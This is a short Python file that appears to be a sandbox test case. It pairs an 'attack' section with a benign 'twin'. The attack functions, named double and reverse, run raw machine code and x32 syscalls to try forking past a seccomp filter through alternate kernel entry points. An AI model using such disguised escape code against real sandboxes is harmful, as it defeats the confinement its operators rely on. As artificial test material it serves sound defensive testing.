"""Enter the kernel by its door for 32-bit programs and by that for x32, where calls have other numbers.

stopped by: seccomp
"""

# %% attack
import ctypes
import mmap
import os


def run(code):
    area = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(area)))()


def forked(pid):
    if pid == 0:
        os._exit(0)
    if pid > 0:
        raise RuntimeError("ESCAPED by another door")
    raise OSError("the door is closed")


def double(x):
    if os.uname().machine != "x86_64":
        raise OSError("this code is for another machine")
    forked(ctypes.c_int(run(b"\x53\xb8\x02\0\0\0\xcd\x80\x5b\xc3")).value)  # push rbx; mov eax, 2; int 0x80; pop rbx; ret


def reverse(items):
    forked(ctypes.CDLL(None).syscall(0x4000_0000 + 57))


# %% twin
import ctypes
import mmap
import os


def double(x):
    if os.uname().machine != "x86_64":
        return 2 * x
    area = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(b"\x8d\x04\x3f\xc3")  # lea eax, [rdi + rdi]; ret
    twice = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
    return twice(1) * x
